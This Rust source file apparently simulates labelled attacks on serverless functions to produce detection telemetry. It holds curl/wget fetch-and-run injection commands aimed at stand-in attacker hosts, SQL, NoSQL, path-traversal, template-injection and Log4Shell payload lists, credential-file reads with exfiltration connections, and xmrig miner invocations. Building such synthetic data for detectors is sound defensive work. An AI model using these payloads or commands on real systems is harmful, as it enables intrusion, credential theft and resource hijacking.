//! Labelled attacks: what an attacked invocation does on top of its normal
//! behaviour, and the payloads its triggering event carries.

use serde_json::{Value, json};

use super::behave::Status;
use super::fleet::{FnSpec, Kind, host_ips};
use super::inv::Inv;
use super::util::{
    ALNUM, BASE32, BASE58, HEX, Rng, chance, int, ip_string, lognorm, pick, token, unif, uniform,
};

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Class {
    CommandInjection,
    SleepTimeoutChild,
    SleepTimeout,
    DnsTunnelling,
    CredentialTheft,
    Cryptomining,
    StolenRoleApiAbuse,
    PayloadInjection,
}

impl Class {
    pub const ALL: [Class; 8] = [
        Class::CommandInjection,
        Class::SleepTimeoutChild,
        Class::SleepTimeout,
        Class::DnsTunnelling,
        Class::CredentialTheft,
        Class::Cryptomining,
        Class::StolenRoleApiAbuse,
        Class::PayloadInjection,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Class::CommandInjection => "command_injection",
            Class::SleepTimeoutChild => "sleep_timeout_child",
            Class::SleepTimeout => "sleep_timeout",
            Class::DnsTunnelling => "dns_tunnelling",
            Class::CredentialTheft => "credential_theft",
            Class::Cryptomining => "cryptomining",
            Class::StolenRoleApiAbuse => "stolen_role_api_abuse",
            Class::PayloadInjection => "payload_injection",
        }
    }

    /// The functions a class is planted in (at least three each).
    pub fn targets(self) -> &'static [Kind] {
        use Kind::*;
        match self {
            Class::CommandInjection => &[
                Thumbnailer,
                PdfRender,
                OrdersApi,
                WebhookRelay,
                BillingWorker,
            ],
            Class::SleepTimeoutChild => &[
                Thumbnailer,
                PdfRender,
                OrdersApi,
                WebhookRelay,
                BillingWorker,
            ],
            Class::SleepTimeout => &[
                BillingWorker,
                WebhookRelay,
                PdfRender,
                OrdersApi,
                AuthToken,
                SearchIndexer,
                EmailSender,
            ],
            Class::DnsTunnelling => &[
                OrdersApi,
                BillingWorker,
                WebhookRelay,
                AuthToken,
                EmailSender,
                SearchIndexer,
            ],
            Class::CredentialTheft => &[
                OrdersApi,
                WebhookRelay,
                Thumbnailer,
                BillingWorker,
                TemplatePreview,
            ],
            Class::Cryptomining => &[
                Thumbnailer,
                SearchIndexer,
                ReportExport,
                BillingWorker,
                PdfRender,
            ],
            Class::StolenRoleApiAbuse => &[
                OrdersApi,
                BillingWorker,
                WebhookRelay,
                Thumbnailer,
                AuthToken,
                ReportExport,
            ],
            Class::PayloadInjection => &[
                OrdersApi,
                AuthToken,
                BillingWorker,
                WebhookRelay,
                Thumbnailer,
                SearchIndexer,
                PdfRender,
            ],
        }
    }

    /// Campaigns (attacker infrastructure, tooling) per class.
    pub fn campaigns(self) -> u32 {
        match self {
            Class::DnsTunnelling => 4,
            Class::Cryptomining => 4,
            _ => 3,
        }
    }
}

/// One planned attack.
#[derive(Debug, Clone, Copy)]
pub struct AttackSpec {
    pub class: Class,
    pub campaign: u32,
}

/// What is injected into the triggering event.
#[derive(Debug, Clone)]
pub enum Payload {
    Str(String),
    /// A JSON value that goes in as real JSON (NoSQL operators).
    Json(Value),
}

/// How an attacked invocation is shaped, decided before its events.
#[derive(Debug, Clone)]
pub struct Shape {
    pub status: Status,
    pub duration: f64,
    /// Length of the window for the normal (benign) events.
    pub benign_ms: f64,
    /// CPU time override.
    pub cpu_ms: Option<f64>,
    /// Peak memory override.
    pub max_mem: Option<i64>,
    pub payload: Option<Payload>,
    /// Details the events need (shell command, host...).
    pub detail: Detail,
}

#[derive(Debug, Clone, Default)]
pub struct Detail {
    /// The shell command the injection runs (command injection, sleep child).
    pub cmd: String,
    pub download_url: String,
    pub download_host: Option<String>,
    pub download_ip: String,
    pub dropped: String,
    pub sleep_secs: u32,
    pub via_shell: bool,
}

const ATTACKER_IPS: &[&str] = &[
    "203.0.113.7",
    "203.0.113.54",
    "198.51.100.23",
    "198.51.100.9",
    "45.83.64.1",
    "185.225.73.18",
    "91.92.240.113",
    "194.26.29.114",
    "5.188.206.14",
    "147.78.47.230",
];

const DROP_HOSTS: &[&str] = &[
    "dl.update-check-cdn.com",
    "cdn.jsdelivr-stats.net",
    "raw.pastebin-mirror.org",
    "get.sysupd.xyz",
];

/// The shell command line a function builds around user input.
fn app_command(f: &FnSpec, input: &str) -> String {
    match f.kind {
        Kind::Thumbnailer => {
            format!("convert /tmp/{input} -resize 256x256> -strip /tmp/thumb_256.jpg")
        }
        Kind::PdfRender => format!("wkhtmltopdf --quiet {input} /tmp/out.pdf"),
        Kind::OrdersApi => format!("/var/task/bin/label-print --note '{input}'"),
        Kind::WebhookRelay => format!("ping -c 1 -W 1 {input}"),
        Kind::BillingWorker => format!("/var/task/bin/receipt --invoice {input}"),
        _ => format!("/var/task/bin/tool {input}"),
    }
}

/// A benign-looking value that the payload is appended to.
fn benign_prefix(r: &mut Rng, f: &FnSpec) -> String {
    match f.kind {
        Kind::Thumbnailer => format!("incoming/{}.jpg", token(r, 8, HEX)),
        Kind::PdfRender => format!(
            "https://acme-render-input.s3.amazonaws.com/jobs/{}.html",
            token(r, 8, ALNUM)
        ),
        Kind::OrdersApi => pick(r, &["Happy birthday", "gift", "thanks"]).to_string(),
        Kind::WebhookRelay => pick(r, &["hooks.slack.com", "example.com", "10.0.0.1"]).to_string(),
        Kind::BillingWorker => format!("in_{}", token(r, 10, ALNUM)),
        _ => "x".to_string(),
    }
}

fn normal_duration(r: &mut Rng, f: &FnSpec) -> f64 {
    lognorm(r, f.dur_median, f.dur_sigma).min(f.timeout_ms as f64 * 0.95)
}

fn timeout_duration(r: &mut Rng, f: &FnSpec) -> f64 {
    f.timeout_ms as f64 + unif(r) * 3.0
}

/// Low CPU of a handler that waits: a few ms up to ~2% of the duration.
fn idle_cpu(r: &mut Rng, duration: f64) -> f64 {
    let hi = (duration * 0.02).max(6.0);
    let cap = uniform(r, 6.0, hi);
    uniform(r, 2.0, hi.min(cap))
}

/// Decides the shape of an attacked invocation of `f`. `native_timeout`
/// says whether a timed-out invocation of `f` still has its `invocation`
/// event (and so can carry an event sample).
pub fn shape(r: &mut Rng, f: &FnSpec, a: AttackSpec) -> Shape {
    let native_timeout = !f.timeout_via_logs;
    let base = normal_duration(r, f);
    let cap = f.timeout_ms as f64 * 0.9;
    let mut s = Shape {
        status: Status::Success,
        duration: base,
        benign_ms: base,
        cpu_ms: None,
        max_mem: None,
        payload: None,
        detail: Detail::default(),
    };
    match a.class {
        Class::CommandInjection => {
            let extra = uniform(r, 400.0, 2500.0);
            s.duration = (base + extra).min(cap);
            s.benign_ms = s.duration;
            if chance(r, 0.15) {
                s.status = Status::Error;
            }
            let ip = ATTACKER_IPS
                [(a.campaign as usize * 3 + int(r, 0, 2) as usize) % ATTACKER_IPS.len()]
            .to_string();
            let host = chance(r, 0.4).then(|| {
                DROP_HOSTS[(a.campaign as usize + int(r, 0, 1) as usize) % DROP_HOSTS.len()]
                    .to_string()
            });
            let server = host.clone().unwrap_or_else(|| ip.clone());
            let path = pick(r, &["x.sh", "i.sh", "bins/lambda.x86", "a", "up.sh", "k"]).to_string();
            let scheme_port = *pick(r, &[("http", ""), ("http", ":8080"), ("https", "")]);
            let url = format!("{}://{server}{}/{path}", scheme_port.0, scheme_port.1);
            let n = int(r, 3, 8) as usize;
            let dropped = format!("/tmp/.{}", token(r, n, ALNUM));
            let cmd = match int(r, 0, 4) {
                0 => format!("curl -s {url} | sh"),
                1 => format!("wget -qO- {url}|sh"),
                2 => format!("curl -fsSL {url} -o {dropped}; chmod +x {dropped}; {dropped}"),
                3 => format!("wget {url} -O {dropped} && chmod 777 {dropped} && {dropped}"),
                _ => format!(
                    "cd /tmp; curl -sO {url}; sh {path}",
                    path = path.rsplit('/').next().unwrap_or("x")
                ),
            };
            let input = match int(r, 0, 4) {
                0 => format!("{}; {cmd}", benign_prefix(r, f)),
                1 => format!("{}$({cmd})", benign_prefix(r, f)),
                2 => format!("{}`{cmd}`", benign_prefix(r, f)),
                3 => format!("{} && {cmd} #", benign_prefix(r, f)),
                _ => format!("{}|{cmd}", benign_prefix(r, f)),
            };
            s.detail = Detail {
                cmd: app_command(f, &input),
                download_url: url,
                download_host: host,
                download_ip: ip,
                dropped,
                ..Detail::default()
            };
            s.payload = Some(Payload::Str(input));
        }
        Class::SleepTimeoutChild => {
            s.status = Status::Timeout;
            s.duration = timeout_duration(r, f);
            s.benign_ms = base.min(f.timeout_ms as f64 * 0.3);
            s.cpu_ms = Some(idle_cpu(r, s.duration));
            let secs = *pick(r, &[600u32, 900, 900, 1800, 3600]);
            let via_shell = chance(r, 0.6);
            // about half carry the injection (only a native report can)
            let carry = native_timeout && chance(r, 0.6);
            let inner = format!("sleep {secs}");
            if carry {
                let input = match int(r, 0, 3) {
                    0 => format!("{}; {inner}", benign_prefix(r, f)),
                    1 => format!("{}$({inner})", benign_prefix(r, f)),
                    2 => format!("{}`{inner}`", benign_prefix(r, f)),
                    _ => format!("{} || {inner} #", benign_prefix(r, f)),
                };
                s.detail.cmd = app_command(f, &input);
                s.payload = Some(Payload::Str(input));
            } else {
                s.detail.cmd = inner;
            }
            s.detail.sleep_secs = secs;
            s.detail.via_shell = via_shell || carry;
        }
        Class::SleepTimeout => {
            s.status = Status::Timeout;
            s.duration = timeout_duration(r, f);
            s.benign_ms = base.min(uniform(r, 40.0, 100.0));
            s.cpu_ms = Some(idle_cpu(r, s.duration));
            if native_timeout && f.reports != super::fleet::Reports::CloudWatch && chance(r, 0.8) {
                s.payload = Some(sleep_payload(r));
            }
        }
        Class::DnsTunnelling => {
            // the queries are placed by `events`; the duration grows with them
            s.duration = (base + uniform(r, 400.0, 5000.0)).min(cap);
            s.benign_ms = base.min(s.duration * 0.5);
            if chance(r, 0.05) {
                s.status = Status::Error;
            }
        }
        Class::CredentialTheft => {
            s.duration = (base + uniform(r, 50.0, 400.0)).min(cap);
            s.benign_ms = s.duration * 0.8;
        }
        Class::Cryptomining => {
            if chance(r, 0.6) {
                s.status = Status::Timeout;
                s.duration = timeout_duration(r, f);
            } else {
                s.duration = f.timeout_ms as f64 * uniform(r, 0.90, 0.98);
            }
            s.benign_ms = base.min(s.duration * 0.1);
            s.cpu_ms = Some(s.duration * uniform(r, 0.93, 1.0));
            s.max_mem = Some((f.memory_mb as f64 * uniform(r, 0.75, 0.97)) as i64);
        }
        Class::StolenRoleApiAbuse => {
            s.duration = (base + uniform(r, 200.0, 1500.0)).min(cap);
            s.benign_ms = s.duration * 0.5;
            if chance(r, 0.2) {
                s.status = Status::Error;
            }
        }
        Class::PayloadInjection => {
            s.payload = Some(injection_payload(r, f));
            if chance(r, 0.1) {
                s.status = Status::Error;
                s.duration = base * uniform(r, 0.2, 1.0);
                s.benign_ms = s.duration;
            }
        }
    }
    s
}

fn sleep_payload(r: &mut Rng) -> Payload {
    match int(r, 0, 5) {
        0 => Payload::Str(format!(
            "'; SELECT pg_sleep({})--",
            pick(r, &[600, 900, 3600])
        )),
        1 => Payload::Str(format!("1' AND SLEEP({})-- -", pick(r, &[600, 900]))),
        2 => Payload::Str("1; WAITFOR DELAY '0:15:0'--".to_string()),
        3 => Payload::Str("' OR BENCHMARK(900000000,MD5(1))#".to_string()),
        4 => Payload::Json(json!({"$where": "sleep(900000) || true"})),
        _ => Payload::Str(format!("x' || pg_sleep({}) || '", pick(r, &[600, 900]))),
    }
}

/// An injection for `payload_injection`, of a family the function's trigger can carry.
fn injection_payload(r: &mut Rng, f: &FnSpec) -> Payload {
    let json_ok = !matches!(f.trigger, "s3" | "dynamodb");
    let family = if json_ok {
        int(r, 0, 4)
    } else {
        *pick(r, &[0, 2, 3, 4])
    };
    match family {
        0 => Payload::Str(
            pick(
                r,
                &[
                    "1' OR '1'='1",
                    "' OR 1=1--",
                    "admin'--",
                    "1 UNION SELECT username, password FROM users--",
                    "' UNION SELECT NULL,NULL,table_name FROM information_schema.tables--",
                    "1; DROP TABLE orders;--",
                    "x'; DROP TABLE sessions; --",
                    "1) OR (1=1",
                    "' AND 1=CONVERT(int,(SELECT @@version))--",
                ],
            )
            .to_string(),
        ),
        1 => Payload::Json(match int(r, 0, 3) {
            0 => json!({"username": {"$ne": null}, "password": {"$ne": null}}),
            1 => json!({"$where": "this.password.length > 0"}),
            2 => json!({"username": "admin", "password": {"$regex": "^a.*"}}),
            _ => json!({"$gt": ""}),
        }),
        2 => Payload::Str(
            pick(
                r,
                &[
                    "../../../../etc/passwd",
                    "..%2f..%2f..%2f..%2fetc%2fpasswd",
                    "%2e%2e%2f%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron",
                    "....//....//....//etc/shadow",
                    "..\\..\\..\\..\\windows\\win.ini",
                    "/var/task/../../../proc/self/environ",
                ],
            )
            .to_string(),
        ),
        3 => Payload::Str(
            pick(
                r,
                &[
                    "{{7*7}}",
                    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
                    "${7*7}",
                    "<%= 7*7 %>",
                    "{{config.items()}}",
                    "#{7*7}",
                    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
                ],
            )
            .to_string(),
        ),
        _ => {
            let tag = token(r, 6, ALNUM);
            Payload::Str(match int(r, 0, 3) {
                0 => "${jndi:ldap://x.example/a}".to_string(),
                1 => "${${lower:j}ndi:${lower:l}dap://45.83.64.1:1389/Exploit}".to_string(),
                2 => format!("${{jndi:dns://{tag}.dnslog-t.net/a}}"),
                _ => "${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.9/o}".to_string(),
            })
        }
    }
}

fn payload_value(p: &Payload) -> Value {
    match p {
        Payload::Str(s) => Value::from(s.as_str()),
        Payload::Json(v) => v.clone(),
    }
}

fn payload_text(p: &Payload) -> String {
    match p {
        Payload::Str(s) => s.clone(),
        Payload::Json(v) => v.to_string(),
    }
}

/// Puts `v` into a JSON text object (a body), under `key`; or, for an
/// operator object and a coin flip, as the whole body.
fn into_body_text(r: &mut Rng, body: &str, keys: &[&str], p: &Payload) -> String {
    let mut obj: Value = serde_json::from_str(body).unwrap_or_else(|_| json!({}));
    if let (Payload::Json(v), true) = (p, chance(r, 0.5))
        && v.is_object()
    {
        return v.to_string();
    }
    if let Some(o) = obj.as_object_mut() {
        o.insert(pick(r, keys).to_string(), payload_value(p));
    }
    obj.to_string()
}

/// Injects `p` into a benign event sample of `f`, at a position its trigger has.
pub fn inject(r: &mut Rng, f: &FnSpec, sample: &mut Value, p: &Payload) {
    let text = payload_text(p);
    match f.trigger {
        "apigateway" => {
            let is_str = matches!(p, Payload::Str(_));
            let pos = if is_str { int(r, 0, 4) } else { 0 };
            match pos {
                0 | 1 => {
                    let keys: &[&str] = match f.kind {
                        Kind::AuthToken => &["username", "password", "client_id", "username"],
                        _ => &["sku", "coupon", "gift_note", "q", "name"],
                    };
                    let body = sample
                        .get("body")
                        .and_then(Value::as_str)
                        .unwrap_or("{}")
                        .to_string();
                    sample["body"] = Value::from(into_body_text(r, &body, keys, p));
                }
                2 => {
                    let key = *pick(r, &["q", "id", "sort", "file", "redirect"]);
                    sample["queryStringParameters"] = json!({ key: text });
                }
                3 => {
                    let key = *pick(
                        r,
                        &["user-agent", "x-forwarded-for", "referer", "x-api-version"],
                    );
                    if let Some(h) = sample.get_mut("headers").and_then(Value::as_object_mut) {
                        h.insert(key.to_string(), Value::from(text));
                    } else {
                        sample["headers"] = json!({ key: text });
                    }
                }
                _ => {
                    let base = sample
                        .get("path")
                        .and_then(Value::as_str)
                        .unwrap_or("/")
                        .to_string();
                    let path =
                        if text.contains("..") || text.contains("%2e") || text.contains("%2f") {
                            format!("{}/{}", base.trim_end_matches('/'), text)
                        } else {
                            format!(
                                "{}/{}",
                                base.trim_end_matches('/'),
                                text.replace(' ', "%20")
                            )
                        };
                    sample["path"] = Value::from(path);
                }
            }
        }
        "sqs" | "sns" => {
            let (field, keys): (&str, &[&str]) = match f.kind {
                Kind::BillingWorker => ("body", &["invoice", "customer", "memo"]),
                Kind::PdfRender => ("body", &["url", "template", "job", "filename"]),
                _ => ("Message", &["to", "template"]),
            };
            if let Some(rec) = sample.pointer_mut("/Records/0") {
                let target = if f.trigger == "sns" {
                    rec.pointer_mut("/Sns")
                } else {
                    Some(rec)
                };
                if let Some(t) = target {
                    let body = t
                        .get(field)
                        .and_then(Value::as_str)
                        .unwrap_or("{}")
                        .to_string();
                    t[field] = Value::from(into_body_text(r, &body, keys, p));
                }
            }
        }
        "eventbridge" => {
            let key = *pick(r, &["hook", "order", "callback_url", "note"]);
            if let Some(d) = sample.get_mut("detail").and_then(Value::as_object_mut) {
                d.insert(key.to_string(), payload_value(p));
            }
        }
        "s3" => {
            if let Some(obj) = sample.pointer_mut("/Records/0/s3/object") {
                let key = if text.starts_with("incoming/") {
                    text
                } else {
                    format!("incoming/{text}")
                };
                obj["key"] = Value::from(key);
            }
        }
        "dynamodb" => {
            if let Some(img) = sample.pointer_mut("/Records/0/dynamodb/NewImage") {
                img["title"] = json!({"S": text});
            }
        }
        _ => {
            sample["detail"] = json!({"input": payload_value(p)});
        }
    }
}

// ---- the attack's own events -------------------------------------------------------

const TUNNEL_APEXES: &[(&str, &str, &[u8])] = &[
    ("tnl.example-cdn-update.com", "TXT", BASE32),
    ("x.dnslog-t.net", "A", HEX),
    ("d.cdn-metrics-sync.info", "TXT", HEX),
    ("q.ns-telemetry.org", "A", BASE32),
];

const POOLS: &[(&str, i64)] = &[
    ("pool.supportxmr.com", 3333),
    ("xmr-eu1.nanopool.org", 14444),
    ("pool.hashvault.pro", 5555),
    ("auto.c3pool.org", 4444),
];

const MINERS: &[&str] = &[
    "/tmp/.cache/xmrig",
    "/tmp/kdevtmpfsi",
    "/tmp/.X11-unix/.x/xmr",
    "/dev/shm/.m/kworkerds",
];

const EXFIL_IPS: &[&str] = &[
    "45.9.148.114",
    "185.243.218.41",
    "194.87.31.9",
    "91.241.19.84",
    "5.252.178.12",
    "103.75.201.4",
];

/// Places the attack's events in `[start, end]` of the invocation.
pub fn events(inv: &mut Inv<'_>, a: AttackSpec, s: &Shape, start: f64, end: f64) {
    let f = inv.f;
    let acct = inv.w.account.clone();
    let span = (end - start).max(1.0);
    // times advance through the window; `step` picks the next one
    let mut t = start + span * 0.02;
    let mut step = |inv: &mut Inv<'_>, frac: f64| {
        t = (t + span * frac * uniform(inv.r, 0.5, 1.5)).min(end - 0.5);
        t
    };
    match a.class {
        Class::CommandInjection => {
            let d = &s.detail;
            let t1 = step(inv, 0.02);
            inv.proc_at(
                "/bin/sh",
                &["/bin/sh", "-c", d.cmd.as_str()],
                f.runtime_exe,
                t1,
            );
            let t2 = step(inv, 0.03);
            if d.cmd.contains("wget") {
                inv.proc_at(
                    "/usr/bin/wget",
                    &[
                        "wget",
                        "-q",
                        "-O",
                        d.dropped.as_str(),
                        d.download_url.as_str(),
                    ],
                    "/bin/sh",
                    t2,
                );
            } else {
                inv.proc_at(
                    "/usr/bin/curl",
                    &[
                        "curl",
                        "-fsSL",
                        "-o",
                        d.dropped.as_str(),
                        d.download_url.as_str(),
                    ],
                    "/bin/sh",
                    t2,
                );
            }
            let port = if d.download_url.starts_with("https") {
                443
            } else if d.download_url.contains(":8080") {
                8080
            } else {
                80
            };
            let ip = match &d.download_host {
                Some(h) => {
                    let t3 = step(inv, 0.01);
                    let ips = inv.dns_at(h, t3, "A", "NOERROR", None);
                    ips.map(|i| ip_string(i[0]))
                        .unwrap_or_else(|| d.download_ip.clone())
                }
                None => d.download_ip.clone(),
            };
            let t4 = step(inv, 0.03);
            let bin = int(inv.r, 20_000, 3_000_000);
            let bo = int(inv.r, 180, 600);
            inv.connect_at(d.download_host.as_deref(), &ip, port, t4, bo, bin);
            let t5 = step(inv, 0.1);
            inv.file_at(&d.dropped, "write", t5);
            let t6 = step(inv, 0.02);
            inv.file_at(&d.dropped, "chmod", t6);
            let t7 = step(inv, 0.02);
            inv.file_at(&d.dropped, "exec", t7);
            inv.proc_at(&d.dropped, &[d.dropped.as_str()], "/bin/sh", t7 + 0.5);
            if chance(inv.r, 0.5) {
                let c2 = *pick(inv.r, EXFIL_IPS);
                let t8 = step(inv, 0.1);
                let port = *pick(inv.r, &[4444i64, 8443, 443, 1337]);
                let (bo, bi) = (int(inv.r, 300, 4000), int(inv.r, 100, 2000));
                inv.connect_at(None, c2, port, t8, bo, bi);
            }
        }
        Class::SleepTimeoutChild => {
            let d = &s.detail;
            let secs = d.sleep_secs.to_string();
            let t1 = step(inv, 0.001);
            if d.via_shell {
                inv.proc_at(
                    "/bin/sh",
                    &["/bin/sh", "-c", d.cmd.as_str()],
                    f.runtime_exe,
                    t1,
                );
                let t2 = t1 + uniform(inv.r, 1.0, 4.0);
                inv.proc_at("/bin/sleep", &["sleep", secs.as_str()], "/bin/sh", t2);
            } else {
                inv.proc_at(
                    "/bin/sleep",
                    &["/bin/sleep", secs.as_str()],
                    f.runtime_exe,
                    t1,
                );
            }
        }
        Class::SleepTimeout => {}
        Class::DnsTunnelling => {
            let (apex, qtype, alphabet) = TUNNEL_APEXES[a.campaign as usize % TUNNEL_APEXES.len()];
            let n = int(inv.r, 20, 200);
            let session = token(inv.r, 4, ALNUM);
            let gap = span * 0.95 / n as f64;
            for i in 0..n {
                let tq = start + gap * (i as f64 + unif(inv.r) * 0.8);
                let len = int(inv.r, 30, 60) as usize;
                let label = token(inv.r, len, alphabet);
                let q = format!("{label}.{session}{i:x}.{apex}");
                let qt = if chance(inv.r, 0.1) {
                    if qtype == "TXT" { "A" } else { "TXT" }
                } else {
                    qtype
                };
                if qt == "TXT" && chance(inv.r, 0.7) {
                    let n = int(inv.r, 12, 45) as usize;
                    let ans = crate::sim::util::base64(token(inv.r, n, ALNUM).as_bytes());
                    inv.dns_raw(&q, tq, "TXT", "NOERROR", &[ans]);
                } else if qt == "A" && chance(inv.r, 0.2) {
                    let ans = format!(
                        "10.{}.{}.{}",
                        int(inv.r, 0, 255),
                        int(inv.r, 0, 255),
                        int(inv.r, 1, 254)
                    );
                    inv.dns_raw(&q, tq, "A", "NOERROR", &[ans]);
                } else {
                    inv.dns_raw(&q, tq, qt, "NXDOMAIN", &[]);
                }
            }
        }
        Class::CredentialTheft => {
            let t1 = step(inv, 0.05);
            let path = *crate::sim::util::weighted(
                inv.r,
                &[
                    ("/proc/self/environ", 0.7),
                    ("/proc/1/environ", 0.2),
                    ("/root/.aws/credentials", 0.1),
                ],
            );
            inv.file_at(path, "read", t1);
            if chance(inv.r, 0.25) {
                let t = step(inv, 0.02);
                inv.file_at("/proc/self/environ", "read", t);
            }
            let ip =
                EXFIL_IPS[(a.campaign as usize * 2 + int(inv.r, 0, 1) as usize) % EXFIL_IPS.len()];
            let port = *pick(inv.r, &[443i64, 8443, 80]);
            let t2 = step(inv, 0.1);
            let (bo, bi) = (int(inv.r, 2000, 40_000), int(inv.r, 150, 2000));
            inv.connect_at(None, ip, port, t2, bo, bi);
        }
        Class::Cryptomining => {
            let (pool, port) = POOLS[a.campaign as usize % POOLS.len()];
            let miner = MINERS[a.campaign as usize % MINERS.len()];
            let parent = if chance(inv.r, 0.5) {
                "/bin/sh"
            } else {
                f.runtime_exe
            };
            if chance(inv.r, 0.5) {
                let t1 = step(inv, 0.005);
                let ip = ATTACKER_IPS[int(inv.r, 0, ATTACKER_IPS.len() as i64 - 1) as usize];
                let url = format!("http://{ip}/xmrig-6.21.0");
                inv.proc_at(
                    "/usr/bin/curl",
                    &["curl", "-s", "-o", miner, url.as_str()],
                    parent,
                    t1,
                );
                let t2 = step(inv, 0.003);
                let (bo, bi) = (int(inv.r, 150, 400), int(inv.r, 2_000_000, 7_000_000));
                inv.connect_at(None, ip, 80, t2, bo, bi);
                let t3 = step(inv, 0.003);
                inv.file_at(miner, "write", t3);
                inv.file_at(miner, "chmod", t3 + 1.0);
            }
            let wallet = format!("4{}", token(inv.r, 94, BASE58));
            let url = format!("stratum+tcp://{pool}:{port}");
            let threads = format!("--threads={}", int(inv.r, 1, 2));
            let t4 = step(inv, 0.005);
            let name = miner.rsplit('/').next().unwrap_or("xmrig");
            let args = [
                name,
                "-o",
                url.as_str(),
                "-u",
                wallet.as_str(),
                "-p",
                "x",
                "--donate-level=1",
                threads.as_str(),
                "-B",
            ];
            inv.proc_at(miner, &args, parent, t4);
            let t5 = step(inv, 0.003);
            let ips = inv.dns_at(pool, t5, "A", "NOERROR", None);
            let ip = ip_string(ips.unwrap_or_else(|| host_ips(pool))[0]);
            let t6 = step(inv, 0.003);
            let secs = (end - t6) / 1000.0;
            let bo = (secs * uniform(inv.r, 30.0, 90.0)) as i64 + 2000;
            let bi = (secs * uniform(inv.r, 80.0, 300.0)) as i64 + 5000;
            inv.connect_at(Some(pool), &ip, port, t6, bo, bi);
        }
        Class::StolenRoleApiAbuse => {
            let catalog: &[(&str, &str, &str)] = &[
                ("iam", "ListUsers", "iam"),
                ("iam", "ListRoles", "iam"),
                ("iam", "CreateAccessKey", "iam"),
                ("iam", "AttachUserPolicy", "iam"),
                ("iam", "CreateUser", "iam"),
                ("iam", "PutUserPolicy", "iam"),
                ("iam", "ListAttachedRolePolicies", "iam"),
                ("s3", "ListBuckets", "s3"),
                ("secretsmanager", "ListSecrets", "x"),
                ("ec2", "DescribeInstances", "ec2"),
                ("ec2", "DescribeRegions", "ec2"),
                ("lambda", "ListFunctions", "x"),
                ("lambda", "GetFunction", "x"),
                ("kms", "ListKeys", "x"),
                ("dynamodb", "ListTables", "x"),
                ("ssm", "DescribeParameters", "x"),
            ];
            if chance(inv.r, 0.6) {
                let host = *pick(
                    inv.r,
                    &[
                        "sts.amazonaws.com",
                        "iam.amazonaws.com",
                        "sts.us-east-1.amazonaws.com",
                    ],
                );
                let t1 = step(inv, 0.01);
                let ips = inv.dns_at(host, t1, "A", "NOERROR", None);
                let ip = ip_string(ips.unwrap_or_else(|| host_ips(host))[0]);
                let (bo, bi) = (int(inv.r, 900, 2500), int(inv.r, 500, 4000));
                inv.connect_at(Some(host), &ip, 443, t1 + 2.0, bo, bi);
            }
            if chance(inv.r, 0.7) {
                let t1 = step(inv, 0.02);
                inv.api_at("sts", "GetCallerIdentity", None, None, t1);
            }
            let k = int(inv.r, 3, 15);
            for _ in 0..k {
                let (service, action, kind) = *pick(inv.r, catalog);
                let err = if f.grants(service, action) {
                    None
                } else if matches!(kind, "iam" | "s3" | "ec2") {
                    Some("AccessDenied")
                } else {
                    Some("AccessDeniedException")
                };
                let resource = match service {
                    "iam"
                        if action == "CreateAccessKey"
                            || action == "AttachUserPolicy"
                            || action == "PutUserPolicy" =>
                    {
                        Some(format!(
                            "arn:aws:iam::{acct}:user/{}",
                            pick(inv.r, &["admin", "ci-deploy", "svc-backup", "jenkins"])
                        ))
                    }
                    "lambda" if action == "GetFunction" => Some(format!(
                        "arn:aws:lambda:us-east-1:{acct}:function:{}",
                        pick(inv.r, &["billing-worker", "auth-token", "orders-api"])
                    )),
                    _ => None,
                };
                let t1 = step(inv, 0.04);
                inv.api_at(service, action, resource.as_deref(), err, t1);
            }
            if chance(inv.r, 0.4) {
                for _ in 0..int(inv.r, 1, 4) {
                    let obj = *pick(
                        inv.r,
                        &[
                            "acme-finance-archive/2026/q3/ledger.csv",
                            "acme-backups-prod/db/pg_dump-latest.sql.gz",
                            "acme-terraform-state/prod/terraform.tfstate",
                            "acme-hr-exports/payroll-2026-10.xlsx",
                        ],
                    );
                    let err = (!f.grants("s3", "GetObject") || chance(inv.r, 0.5))
                        .then_some("AccessDenied");
                    let t1 = step(inv, 0.03);
                    inv.api_at(
                        "s3",
                        "GetObject",
                        Some(&format!("arn:aws:s3:::{obj}")),
                        err,
                        t1,
                    );
                }
            }
        }
        Class::PayloadInjection => {}
    }
}
